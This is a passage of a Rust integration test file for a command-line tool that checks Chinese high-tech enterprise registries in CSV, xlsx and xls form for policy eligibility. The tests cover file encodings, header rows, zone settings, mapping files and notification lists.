        ] {
            let expected = reference::evaluate_with(&facts, explain);
            let out = run(flags, profile.as_bytes());
            assert!(out.status.success(), "{profile}: {}", String::from_utf8_lossy(&out.stderr));
            assert_eq!(text(&out.stdout), serde_json::to_string_pretty(&expected).unwrap() + "\n", "{profile}");
        }
        checked += 1;
    }
    assert!(checked >= 50, "only {checked} valid profiles in the corpus");
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_takes_the_files_zone_and_says_what_the_registry_rules_did() {
    use hitech_eligibility::shell::batch::Batch;
    let gbk = encoding_rs::GB18030.encode(&trial::trial_registry()).0.into_owned();
    let as_of = trial::TRIAL_AS_OF;
    // Without the file's zone: the park names are errors naming the value, with the province's zones.
    let out = run(&["check", "--csv", "-", "--as-of", as_of, "--province", "重庆"], &gbk);
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains(
            "row 4, column 4 (所属园区): \"西永微电子产业园\" is not one of: a zone of the directory (e.g. 重庆高新技术产业开发区 (chongqing)"
        ),
        "{stderr}"
    );
    assert!(stderr.contains("the header is row 3: the 1 row above it (a title) is not read"), "{stderr}");

    let out = run(&["check", "--csv", "-", "--as-of", as_of, "--zone", "chongqing", "--jobs", "2"], &gbk);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "one bad date: {stderr}");
    for said in [
        "6 rows took the file's zone (chongqing, --zone)",
        "1 row said high-tech enterprise but the certificate had expired on the check date: read as no",
        "1 row: the same unified social credit code as an earlier row",
        "1 row: an invalid unified social credit code",
        "row 10, column 7 (高企证书有效期至) \"2026-13-01\": no such date",
        "1 of 8 rows could not be checked",
    ] {
        assert!(stderr.contains(said), "{said}: {stderr}");
    }
    // The same rules as the page's engine: the same bytes.
    let mut batch = Batch::read(&gbk, "auto", "auto").unwrap();
    batch.set_settings(r#"{"zone": "重庆高新区"}"#).unwrap();
    batch.run(0, usize::MAX, as_of).unwrap();
    assert_eq!(out.stdout, batch.export_csv());
    // And from an .xlsx with the title row.
    let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(trial::trial_registry().as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            if !cell.is_empty() {
                sheet.write_string(u32::try_from(r).unwrap(), u16::try_from(c).unwrap(), cell).unwrap();
            }
        }
    }
    let xlsx = workbook.save_to_buffer().unwrap();
    let from_xlsx = run(&["check", "--csv", "-", "--as-of", as_of, "--zone", "chongqing"], &xlsx);
    assert_eq!(from_xlsx.stdout, out.stdout);
    assert_eq!(text(&from_xlsx.stderr), stderr);

    // The settings are checked, and are for --csv only.
    let bad = run(&["check", "--csv", "-", "--zone", "火星"], &gbk);
    assert_eq!(bad.status.code(), Some(2));
    assert!(text(&bad.stderr).contains("--zone: \"火星\" is not a zone of the directory"), "{}", text(&bad.stderr));
    let contradiction = run(&["check", "--csv", "-", "--zone", "chongqing", "--province", "sichuan"], &gbk);
    assert!(text(&contradiction.stderr).contains("contradicts zone"), "{}", text(&contradiction.stderr));
    assert_eq!(run(&["check", "-", "--zone", "chongqing"], b"{}").status.code(), Some(2));
}

/// The Bishan fixture (tests/fixtures/batch/generate_bishan.py), its .xlsx
/// and its tab-separated GB18030 text: the CLI says what it read and left
/// aside, gives the page's bytes, and refuses only the typos.
#[test]
#[cfg(feature = "batch")]
fn check_csv_reads_the_bishan_registry_as_the_page_does() {
    use hitech_eligibility::shell::batch::Batch;
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/batch/");
    let mut outputs = Vec::new();
    for name in ["registry-bishan.xlsx", "registry-bishan.csv"] {
        let path = format!("{dir}{name}");
        let out = run(&["check", "--csv", &path, "--as-of", trial::TRIAL_AS_OF, "--zone", "璧山高新区"], b"");
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{name}: three typos: {stderr}");
        for said in [
            "the header is row 2: the 1 row above it (a title) is not read",
            "row 3, column 2 (序号) \"一、名录企业（121家）\": not an enterprise: a section heading; not checked",
            "row 21, column 8 (是否规上企业) \"是否\": not a yes/no answer",
            "row 45, column 7 (高企证书有效期) \"2026-02-30\": no such date",
            "row 81, column 9 (上年度营业收入\\n（亿元）) \"1.2o\"",
            "34 rows said high-tech enterprise but the certificate had expired on the check date: read as no",
            "22 rows named a qualification that is not a fact here (专精特新…, a plan, a typo): left aside",
            "1 row: the same unified social credit code as an earlier row",
            "6 of 124 rows could not be checked",
        ] {
            assert!(stderr.contains(said), "{name}: {said}: {stderr}");
        }
        assert!(!stderr.contains("not a date"), "{name}: Excel's serial numbers are dates: {stderr}");
        let mut batch = Batch::read(&std::fs::read(&path).unwrap(), "auto", "auto").unwrap();
        batch.set_settings(r#"{"zone": "bishan"}"#).unwrap();
        batch.run(0, usize::MAX, trial::TRIAL_AS_OF).unwrap();
        assert_eq!(out.stdout, batch.export_csv(), "{name}: the page's export, byte for byte");
        outputs.push(out.stdout);
    }
    // The two files differ only in how the percentage and the date cells
    // are shown; every status is the same.
    let statuses = |bytes: &[u8]| -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
        let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
        let first = rows[0].iter().position(|h| h == "error").unwrap();
        rows.iter().map(|row| row[first..].to_vec()).collect()
    };
    assert_eq!(statuses(&outputs[0]), statuses(&outputs[1]));
}

/// The Zunyi workbook (tests/fixtures/batch/generate_zunyi.py), one sheet
/// per park after a summary: the CLI reads every park's sheet, says which,
/// gives the page's bytes, and a notification list keeps each row's sheet.
#[test]
#[cfg(feature = "batch")]
fn check_csv_reads_a_workbook_of_one_sheet_per_park_as_the_page_does() {
    use hitech_eligibility::shell::batch::Batch;
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/batch/registry-zunyi.xlsx");
    let out = run(&["check", "--csv", path, "--as-of", trial::TRIAL_AS_OF, "--zone", "遵义高新区"], b"");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "three typos: {stderr}");
    for said in [
        "reading 3 worksheets with the same header, one after another (each row's sheet in the last column, \"工作表\"): \
         2 新蒲片区 (24 rows), 3 汇川片区 (18 rows), 4 红花岗片区 (15 rows); sheets without a header row are not read",
        "row 9, column 8 (高企证书有效期) \"2025-13-01\": no such date",
        "row 6, column 9 (营业收入(万元)) \"12O0\"",
        "row 5, column 7 (是否高新技术企业) \"是否\": not a yes/no answer",
        "2 rows held a formula's error value (#N/A, #DIV/0!, #REF!…) in a column read: read as unknown",
        "1 row: the same unified social credit code as an earlier row",
        "9 of 57 rows could not be checked",
    ] {
        assert!(stderr.contains(said), "{said}: {stderr}");
    }
    assert!(!stderr.contains("invalid unified social credit code"), "'9152… is the code: {stderr}");
    let mut batch = Batch::read(&std::fs::read(path).unwrap(), "auto", "auto").unwrap();
    batch.set_settings(r#"{"zone": "zunyi"}"#).unwrap();
    batch.run(0, usize::MAX, trial::TRIAL_AS_OF).unwrap();
    assert_eq!(out.stdout, batch.export_csv(), "the page's export, byte for byte");
    // The firm entered again in 红花岗片区 came first on row 3 of another sheet: named with it.
    assert!(text(&out.stdout).contains(",same credit code as row 3 of sheet 新蒲片区,"), "{}", text(&out.stdout));
    let list = run(
        &[
            "check",
            "--csv",
            path,
            "--as-of",
            trial::TRIAL_AS_OF,
            "--zone",
            "zunyi",
            "--notify",
            "guizhou.talent-housing",
        ],
        b"",
    );
    let list = text(&list.stdout);
    let header = list.lines().next().unwrap_or_default();
    assert!(header.contains("企业名称") && header.contains("联系电话") && header.contains("工作表"), "{header}");
    assert!(list.lines().skip(1).any(|line| line.contains("汇川片区")), "a firm of the second park's sheet: {list}");
}

/// An old binary .xls (tests/fixtures/batch/generate_mianyang.py): it was
/// refused ("save it as .xlsx or CSV"); `check --csv` now reads it as the
/// page does and as the same sheet saved as CSV, row for row, byte for
/// byte; one it cannot read is an error naming the file, never a panic.
#[test]
#[cfg(feature = "batch")]
fn check_csv_reads_an_old_xls_as_its_csv_twin() {
    use hitech_eligibility::shell::batch::Batch;
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/batch/");
    let mut outputs = Vec::new();
    for name in ["registry-mianyang.xls", "registry-mianyang.csv"] {
        let path = format!("{dir}{name}");
        let out = run(&["check", "--csv", &path, "--as-of", trial::TRIAL_AS_OF, "--zone", "mianyang"], b"");
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{name}: three typos: {stderr}");
        for said in [
            "the header is row 2: the 1 row above it (a title) is not read",
            "row 14, column 6 (高企证书有效期至) \"2025-13-01\": no such date",
            "row 26, column 8 (营业收入（万元）) \"3O00\"",
            "row 40, column 7 (是否规上\\n企业) \"是否\": not a yes/no answer",
            "row 64, column 1 (序号) \"合计\": not an enterprise",
            "27 rows said high-tech enterprise but the certificate had expired on the check date: read as no",
            "1 row: the same unified social credit code as an earlier row",
            "4 of 62 rows could not be checked",
        ] {
            assert!(stderr.contains(said), "{name}: {said}: {stderr}");
        }
        assert_eq!(
            stderr.contains("reading worksheet 2 (企业名录)"),
            name.ends_with("xls"),
            "{name}: the note sheet before the registry: {stderr}"
        );
        let mut batch = Batch::read(&std::fs::read(&path).unwrap(), "auto", "auto").unwrap();
        batch.set_settings(r#"{"zone": "mianyang"}"#).unwrap();
        batch.run(0, usize::MAX, trial::TRIAL_AS_OF).unwrap();
        assert!(out.stdout == batch.export_csv(), "{name}: the page's export, byte for byte");
        outputs.push(out.stdout);
    }
    // The same but for the park, which the .xls gives every firm of its merged range.
    let without_park = |export: &[u8]| {
        String::from_utf8(export.to_vec())
            .unwrap()
            .lines()
            .map(|line| {
                line.splitn(3, ',').enumerate().filter(|(i, _)| *i != 1).map(|(_, c)| c).collect::<Vec<_>>().join(",")
            })
            .collect::<Vec<_>>()
    };
    assert!(outputs[0] != outputs[1], "the park merged down is read for every firm of the .xls");
    assert!(
        without_park(&outputs[0]) == without_park(&outputs[1]),
        "the .xls and its CSV: the same statuses, row for row"
    );
    // From stdin too (the kind is told by its first bytes).
    let xls = std::fs::read(format!("{dir}registry-mianyang.xls")).unwrap();
    let piped = run(&["check", "--csv", "-", "--as-of", trial::TRIAL_AS_OF, "--zone", "mianyang"], &xls);
    assert!(piped.stdout == outputs[0]);
    // One cut short: the file named, exit 2, no panic.
    let cut = std::env::temp_dir().join(format!("reg3-cut-{}.xls", std::process::id()));
    std::fs::write(&cut, &xls[..xls.len() / 2]).unwrap();
    let out = run(&["check", "--csv", cut.to_str().unwrap(), "--as-of", trial::TRIAL_AS_OF], b"");
    let _ = std::fs::remove_file(&cut);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains(&format!("{}: the .xls file cannot be read", cut.display())), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
}

/// Excel's "Unicode 文本" (UTF-16LE after its byte-order mark) streams as
/// its GB18030 twin, across the first mebibyte and every chunk after it.
#[test]
#[cfg(feature = "batch")]
fn check_csv_streams_unicode_text_as_its_gb18030_twin() {
    let gbk = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/batch/registry-bishan.csv")).unwrap();
    let sheet = encoding_rs::GB18030.decode_without_bom_handling(&gbk).0.into_owned();
    // Over 2 MiB as UTF-16: the body again and again (repeated codes and all).
    let (top, body) = sheet.split_at(sheet.find("\r\n\t一、").unwrap() + 2);
    let long = format!("{top}{}", body.repeat(75));
    let utf16: Vec<u8> = "\u{feff}".encode_utf16().chain(long.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    assert!(utf16.len() > 2 << 20, "{}", utf16.len());
    let gb18030 = encoding_rs::GB18030.encode(&long).0.into_owned();
    let args = ["check", "--csv", "-", "--as-of", trial::TRIAL_AS_OF, "--zone", "bishan", "--jobs", "2"];
    let (from_utf16, from_gb18030) = (run(&args, &utf16), run(&args, &gb18030));
    assert_eq!(text(&from_utf16.stderr), text(&from_gb18030.stderr));
    assert!(from_utf16.stdout == from_gb18030.stdout, "the same output");
    assert!(text(&from_utf16.stderr).contains("of 9300 rows could not be checked"), "{}", text(&from_utf16.stderr));
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_reads_a_saved_mapping_as_the_page_does() {
    use hitech_eligibility::shell::batch::Batch;
    let registry = trial::trial_registry();
    let as_of = trial::TRIAL_AS_OF;
    // The page's mapping: the file's zone, and 申报中 read as 否 for this run.
    let mut batch = Batch::read(registry.as_bytes(), "auto", "auto").unwrap();
    batch
        .set_mapping_file(r#"{"columns": {"企业规模": null}, "values": {"是否科技型中小企业": {"申报中": "否"}}, "zone": "重庆高新区"}"#)
        .unwrap();
    batch.run(0, usize::MAX, as_of).unwrap();
    let dir = std::env::temp_dir().join(format!("hitech-mapping-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let mapping = dir.join("mapping.json");
    std::fs::write(&mapping, batch.mapping_file()).unwrap();
    let out =
        run(&["check", "--csv", "-", "--as-of", as_of, "--mapping", mapping.to_str().unwrap()], registry.as_bytes());
    assert_eq!(out.stdout, batch.export_csv(), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("6 rows took the file's zone (chongqing"), "{}", text(&out.stderr));
    // --zone overrides the file's settings.
    let other = run(
        &["check", "--csv", "-", "--as-of", as_of, "--mapping", mapping.to_str().unwrap(), "--province", "sichuan"],
        registry.as_bytes(),
    );
    assert!(!text(&other.stderr).contains("took the file's zone"), "{}", text(&other.stderr));
    // A bad file names itself; --mapping is for --csv only.
    std::fs::write(&mapping, r#"{"columns": {"所属园区": "revenue"}}"#).unwrap();
    let bad = run(&["check", "--csv", "-", "--mapping", mapping.to_str().unwrap()], registry.as_bytes());
    assert_eq!(bad.status.code(), Some(2));
    assert!(text(&bad.stderr).contains("unknown target \"revenue\""), "{}", text(&bad.stderr));
    assert!(bad.stdout.is_empty());
    assert_eq!(run(&["check", "-", "--mapping", mapping.to_str().unwrap()], b"{}").status.code(), Some(2));
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_notify_writes_the_pages_notification_list() {
    use hitech_eligibility::shell::batch::{notify::Words, Batch};
    let registry = trial::trial_registry();
    let as_of = trial::TRIAL_AS_OF;
    let star = hitech_eligibility::catalogue::measures().find(|m| m.id == "chongqing.star-listing-award").unwrap();
    let mut batch = Batch::read(registry.as_bytes(), "auto", "auto").unwrap();
    batch.set_settings(r#"{"zone": "chongqing"}"#).unwrap();
    batch.run(0, usize::MAX, as_of).unwrap();
    for (format, lang, english) in [("csv", "zh", false), ("xlsx", "en", true)] {
        let out = run(
            &[
                "check",
                "--csv",
                "-",
                "--as-of",
                as_of,
                "--zone",
                "chongqing",
                "--notify",
                star.id,
                "--notify-format",
                format,
                "--lang",
                lang,
            ],
            registry.as_bytes(),
        );
        // The page's own list, in the words it would use; a row with a typo
        // (exit 2) is left out and said.
        let page = batch.export_notification_in(star.id, &Words::builtin(star, english), format).unwrap();
        assert_eq!(out.stdout, page, "{format}: {}", text(&out.stderr));
        assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
        assert!(text(&out.stderr).contains("1 of 8 rows could not be checked"), "{}", text(&out.stderr));
    }
    let zh = text(
        &run(
            &["check", "--csv", "-", "--as-of", as_of, "--zone", "chongqing", "--notify", star.id],
            registry.as_bytes(),
        )
        .stdout,
    );
    assert!(
        zh.starts_with(
            "\u{feff}行号,企业名称,统一社会信用代码,联系人,联系电话,政策,结果,由谁决定,缺少的信息,征求意见稿\r\n"
        ),
        "{zh}"
    );
    assert!(zh.contains(",可以申请,"), "{zh}");
    // Another province's measure, for a registry all in Chongqing; bad flags.
    for (args, said) in [
        (vec!["--notify", "guizhou.rd-super-deduction"], "another province"),
        (vec!["--notify", "nope"], "--notify: unknown measure id \"nope\""),
        (vec!["--notify", star.id, "--notify-format", "pdf"], "--notify-format: \"pdf\""),
        (vec!["--notify", star.id, "--lang", "fr"], "--lang: \"fr\""),
    ] {
        let mut all = vec!["check", "--csv", "-", "--as-of", as_of, "--zone", "chongqing"];
        all.extend(args);
        let out = run(&all, registry.as_bytes());
        assert_eq!(out.status.code(), Some(2));
        assert!(out.stdout.is_empty() && text(&out.stderr).contains(said), "{said}: {}", text(&out.stderr));
    }
    // --notify is for --csv only.
    assert_eq!(run(&["check", "-", "--notify", star.id], b"{}").status.code(), Some(2));
}

#[test]
#[cfg(feature = "batch")]
fn the_notification_words_title_a_shared_measure_with_its_document_as_the_page_does() {
    use hitech_eligibility::shell::batch::notify::Words;
    let find = |id: &str| hitech_eligibility::catalogue::measures().find(|m| m.id == id).unwrap();
    let guizhou = find("guizhou.rd-super-deduction");
    // Three documents restate the super-deduction: each list says whose it is.
    assert_eq!(Words::builtin(guizhou, false).title, format!("{}（贵州省）", guizhou.title.zh));
    assert_eq!(Words::builtin(guizhou, true).title, format!("{} (Guizhou)", guizhou.title.en));
    let star = find("chongqing.star-listing-award");
    assert_eq!(Words::builtin(star, false).title, star.title.zh, "a title of its own stays as it is");
    let words = Words::builtin(star, true);
    assert_eq!((words.decides.as_str(), words.lang.as_str()), ("Who decides", "en"));
    assert_eq!(words.facts.get("highTechEnterprise").map(String::as_str), Some(find_label("highTechEnterprise")));
}

#[cfg(feature = "batch")]
fn find_label(target: &str) -> &'static str {
    use hitech_eligibility::shell::batch::columns::Target;
    Target::all().find(|t| t.name() == target).unwrap().label().en
}

#[test]
#[cfg(feature = "batch")]
fn a_header_row_staff_choose_is_read_alike_by_the_page_and_check_csv() {
    use hitech_eligibility::shell::batch::Batch;
    // A title row, a blank row, then a header of names nobody knows: the
    // header is not found, so staff choose row 3.
    let registry = "名录（内部）,,\r\n,,\r\n单位,甲栏,乙栏\r\n甲,是,重庆高新区\r\n乙,否,重庆高新区\r\n";
    let found = Batch::read(registry.as_bytes(), "auto", "auto").unwrap();
    assert_eq!(found.columns().iter().next().unwrap().header, "名录（内部）", "not found");
    let mut chosen = Batch::read_at(registry.as_bytes(), "auto", "auto", Some(3)).unwrap();
    let headers: Vec<&str> = chosen.columns().iter().map(|c| c.header.as_str()).collect();
    assert_eq!(headers, ["单位", "甲栏", "乙栏"]);
    assert_eq!(chosen.rows(), 2);
    let as_of = trial::TRIAL_AS_OF;
    chosen.run(0, usize::MAX, as_of).unwrap();
    let out = run(&["check", "--csv", "-", "--as-of", as_of, "--header-row", "3"], registry.as_bytes());
    assert_eq!(out.stdout, chosen.export_csv(), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("the header is row 3"), "{}", text(&out.stderr));
    // Mapped by staff and saved: the mapping carries the row.
    chosen.set_mapping(r#"["@name", "highTechEnterprise", "zone"]"#).unwrap();
    chosen.run(0, usize::MAX, as_of).unwrap();
    let saved = chosen.mapping_file();
    assert!(saved.contains("\"headerRow\": 3"), "{saved}");
    let dir = std::env::temp_dir().join(format!("hitech-header-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let mapping = dir.join("mapping.json");
    std::fs::write(&mapping, &saved).unwrap();
    let out =
        run(&["check", "--csv", "-", "--as-of", as_of, "--mapping", mapping.to_str().unwrap()], registry.as_bytes());
    assert_eq!(out.stdout, chosen.export_csv(), "{}", text(&out.stderr));
    // The notification list reads the mapping's header row too.
    let listed = run(
        &[
            "check",
            "--csv",
            "-",
            "--as-of",
            as_of,
            "--mapping",
            mapping.to_str().unwrap(),
            "--notify",
            "chongqing.star-listing-award",
        ],
        registry.as_bytes(),
    );
    assert!(text(&listed.stdout).contains("单位"), "{}", text(&listed.stderr));
    // Only the first ten rows can be the header.
    let bad = run(&["check", "--csv", "-", "--header-row", "11"], registry.as_bytes());
    assert_eq!(bad.status.code(), Some(2));
    assert!(text(&bad.stderr).contains("--header-row: \"11\""), "{}", text(&bad.stderr));
    assert!(Batch::read_at(registry.as_bytes(), "auto", "auto", Some(0))
        .err()
        .unwrap()
        .to_string()
        .starts_with("header row: 0"));
    assert_eq!(run(&["check", "-", "--header-row", "3"], b"{}").status.code(), Some(2));
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_reads_a_header_of_two_rows_as_the_page_does() {
    let registry = "企业名称,统一社会信用代码,所在高新区,高企证书,\r\n\
                ,,,证书编号,有效期至\r\n\
                \r\n\
                甲,91350100M000100Y43,重庆高新区,GR2023,2027-01-01\r\n\
                乙,91500000202814256L,重庆高新区,GR2021,2024-03-12\r\n";
    let dir = std::env::temp_dir().join(format!("two-row-header-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("registry.csv");
    std::fs::write(&path, registry).unwrap();
    let out = run(&["check", "--csv", path.to_str().unwrap(), "--as-of", "2026-12-06"], b"");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let table = csv_table(&out.stdout);
    assert_eq!(&table[0][..5], ["企业名称", "统一社会信用代码", "所在高新区", "证书编号", "高企证书有效期至"]);
    // A blank row before the first data row is not a row, as on the page.
    assert_eq!(table.len(), 3, "the header, 甲 and 乙");
    let loan = table[0].iter().position(|h| h == "chongqing.knowledge-value-loan status").unwrap();
    assert_eq!(table[2][loan], "ineligible", "乙's certificate expired 2024-03-12");
    assert_ne!(table[1][loan], "ineligible");
    // A header row chosen by number is that one row: the second is data.
    let out = run(&["check", "--csv", path.to_str().unwrap(), "--as-of", "2026-12-06", "--header-row", "1"], b"");
    let table = csv_table(&out.stdout);
    assert_eq!(&table[0][..4], ["企业名称", "统一社会信用代码", "所在高新区", "高企证书"]);
    assert_eq!(table[1][3], "证书编号", "the second header row is a row now");
    std::fs::remove_dir_all(&dir).unwrap();
}
